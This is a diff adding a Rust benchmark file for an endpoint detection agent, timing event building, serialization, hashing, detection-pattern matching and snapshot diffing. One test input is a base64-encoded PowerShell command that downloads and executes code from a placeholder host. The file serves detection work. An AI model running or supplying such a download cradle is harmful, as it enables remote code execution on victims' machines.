@@ -0,0 +1,134 @@
+// Hot paths run for every collected event or snapshot. Run with `cargo bench`; compare
+// against a saved baseline before a fleet rollout:
+//   cargo bench --bench hot_paths -- --save-baseline main
+//   cargo bench --bench hot_paths -- --baseline main
+use chrono::Utc;
+use criterion::{black_box, criterion_group, criterion_main, BatchSize, Criterion, Throughput};
+use lsedr::features::filesystem::FileSystemCollector;
+use lsedr::features::process::{ProcessInformation, ProcessInformationBuilder};
+use lsedr::features::registry::{RegistryEventBuilder, RegistryEventType};
+use lsedr::shared::patterns::{PatternSet, DEFAULT_PATTERNS};
+use lsedr::shared::storage::{SnapshotDeltaConfig, SnapshotDeltaEncoder, StorageDocument};
+use serde_json::json;
+use std::io::Write;
+
+// A busy server's process table
+const SNAPSHOT_PROCESSES: u32 = 500;
+
+fn process(pid: u32) -> ProcessInformation {
+    ProcessInformationBuilder::new()
+        .timestamp(Utc::now())
+        .source(String::from("bench-host"))
+        .category(String::from("process"))
+        .pid(pid)
+        .name(format!("worker-{}", pid % 40))
+        .cpu_usage((pid % 100) as f32 / 10.0)
+        .memory_usage(32_000_000 + pid as u64 * 4096)
+        .status(String::from("Run"))
+        .user(String::from("svc-app"))
+        .command(format!("/usr/bin/worker-{} --config /etc/worker.conf --id {}", pid % 40, pid))
+        .threads(8)
+        .build()
+        .expect("valid process")
+}
+
+fn event_building(c: &mut Criterion) {
+    let mut group = c.benchmark_group("event_building");
+    group.bench_function("process_information", |b| b.iter(|| process(black_box(4242))));
+    group.bench_function("registry_event", |b| {
+        b.iter(|| {
+            RegistryEventBuilder::new()
+                .timestamp(Utc::now())
+                .source(String::from("bench-host"))
+                .category(String::from("registry"))
+                .event_type(RegistryEventType::Modified)
+                .key_path(String::from(r"HKEY_LOCAL_MACHINE\Software\Microsoft\Windows\CurrentVersion\Run"))
+                .value_name(String::from("Updater"))
+                .new_data(String::from(r"C:\Program Files\Updater\updater.exe /silent"))
+                .build()
+                .expect("valid registry event")
+        })
+    });
+    group.finish();
+}
+
+fn serialization(c: &mut Criterion) {
+    let event = process(4242);
+    let batch: Vec<ProcessInformation> = (1..=100).map(process).collect();
+    let mut group = c.benchmark_group("serialization");
+    group.bench_function("to_json", |b| b.iter(|| serde_json::to_string(black_box(&event)).expect("serializable")));
+    // Serialization plus the enrichment chain, as every stored event goes through
+    group.bench_function("storage_document", |b| {
+        b.iter(|| StorageDocument::new("process_metrics", black_box(&event)).expect("serializable"))
+    });
+    group.throughput(Throughput::Elements(batch.len() as u64));
+    group.bench_function("storage_document_batch", |b| {
+        b.iter(|| StorageDocument::many("process_metrics", black_box(&batch)).expect("serializable"))
+    });
+    group.finish();
+}
+
+fn hashing(c: &mut Criterion) {
+    let mut file = std::env::temp_dir();
+    file.push(format!("lsedr-bench-{}.bin", std::process::id()));
+    let content: Vec<u8> = (0..1024 * 1024).map(|i| (i % 251) as u8).collect();
+    std::fs::File::create(&file)
+        .and_then(|mut handle| handle.write_all(&content))
+        .expect("bench file written");
+
+    let mut group = c.benchmark_group("hashing");
+    group.throughput(Throughput::Bytes(content.len() as u64));
+    group.bench_function("sha256_file_1mib", |b| {
+        b.iter(|| FileSystemCollector::calculate_file_hash(black_box(&file)).expect("hashable"))
+    });
+    group.finish();
+    std::fs::remove_file(&file).ok();
+}
+
+fn pattern_matching(c: &mut Criterion) {
+    let defaults: Vec<String> = DEFAULT_PATTERNS.iter().map(|pattern| pattern.to_string()).collect();
+    let patterns = PatternSet::compile(&defaults);
+    let benign = r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1736,i,4123412341234"#;
+    // "IEX (New-Object Net.WebClient).DownloadString('http://x/a')" as UTF-16LE base64
+    let encoded = "powershell.exe -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAvAGEAJwApAA==";
+
+    let mut group = c.benchmark_group("pattern_matching");
+    group.bench_function("benign_command_line", |b| b.iter(|| patterns.matches(black_box(benign))));
+    group.bench_function("encoded_command_line", |b| b.iter(|| patterns.matches(black_box(encoded))));
+    group.finish();
+}
+
+fn snapshot_diffing(c: &mut Criterion) {
+    let config = SnapshotDeltaConfig {
+        enabled: true,
+        ..SnapshotDeltaConfig::default()
+    };
+    let snapshot = json!({
+        "source": "bench-host",
+        "process_info": (1..=SNAPSHOT_PROCESSES).map(process).collect::<Vec<_>>(),
+    });
+
+    let mut group = c.benchmark_group("snapshot_diffing");
+    group.throughput(Throughput::Elements(SNAPSHOT_PROCESSES as u64));
+    // A keyframe: every entry is new and written in full
+    group.bench_function("keyframe", |b| {
+        b.iter_batched(
+            || SnapshotDeltaEncoder::new(config.clone()),
+            |encoder| encoder.encode("system_snapshot", black_box(&snapshot)).expect("encodable"),
+            BatchSize::SmallInput,
+        )
+    });
+    // The steady state: the table is unchanged and every entry becomes a reference
+    let encoder = SnapshotDeltaEncoder::new(SnapshotDeltaConfig {
+        keyframe_interval: u32::MAX,
+        ..config
+    });
+    encoder.encode("system_snapshot", &snapshot).expect("encodable");
+    group.bench_function("unchanged", |b| {
+        b.iter(|| encoder.encode("system_snapshot", black_box(&snapshot)).expect("encodable"))
+    });
+    group.finish();
+}
+
+criterion_group!(benches, event_building, serialization, hashing, pattern_matching, snapshot_diffing);
+criterion_main!(benches);